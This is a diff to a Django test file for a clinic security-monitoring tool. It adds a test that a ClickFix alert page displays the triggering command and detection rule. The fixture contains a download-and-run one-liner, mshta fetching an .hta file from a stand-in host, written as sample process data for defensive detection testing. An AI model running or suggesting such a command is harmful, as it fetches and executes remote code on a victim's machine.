@@ -1,5 +1,7 @@
 """Alert pages: filters, explanation with its events, triage, a person's access profile."""
 
+from datetime import timedelta
+
 from django.conf import settings
 
 from clinicshield.monitoring.actions import do_raise_alert
@@ -104,7 +106,7 @@ def test_a_persons_profile_draws_their_usual_hours(client_alice, org_a):
     today = timezone.now().replace(hour=0, minute=0, second=0, microsecond=0)
     rows = [
         signin(ts, "ana", src_country="ES", device="WS-ANA")
-        for ts in daily(today.replace(day=1) - __import__("datetime").timedelta(days=40), 40, 8)
+        for ts in daily(today.replace(day=1) - timedelta(days=40), 40, 8)
     ]
     write_events(settings.DATA_DIR, "auth", rows, org=org_a.slug)
     page = client_alice.get(f"/o/{org_a.slug}/monitoring/people/ana/")
@@ -145,3 +147,30 @@ def test_the_sentence_names_the_person_behind_the_account(client_alice, org_a):
     ana_alert(org_a)
     text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/").content.decode()
     assert "Ana García signed in from NG (Lagos) for the first time" in text
+
+
+def test_a_clickfix_alert_page_shows_the_command_and_the_rules(client_alice, org_a):
+    from clinicshield.monitoring.actions import do_run_detection
+
+    command = "mshta https://captcha.example/verify.hta"
+    write_events(
+        settings.DATA_DIR,
+        "process",
+        [
+            {
+                "ts": NOW,
+                "host": "reception-pc",
+                "user": "ana",
+                "event_code": "sysmon:1",
+                "image": "C:\\Windows\\System32\\mshta.exe",
+                "parent_image": "C:\\Windows\\explorer.exe",
+                "command_line": command,
+                "record_ref": "p1",
+            }
+        ],
+        org=org_a.slug,
+    )
+    (alert,) = do_run_detection(org_a, NOW + timedelta(minutes=5)).new_alerts
+    text = client_alice.get(f"/o/{org_a.slug}/monitoring/alerts/{alert.pk}/").content.decode()
+    assert "ClickFix - Explorer Starts a Download-and-Run One-Liner" in text
+    assert text.count(command) >= 2  # in the sentence and in the event row
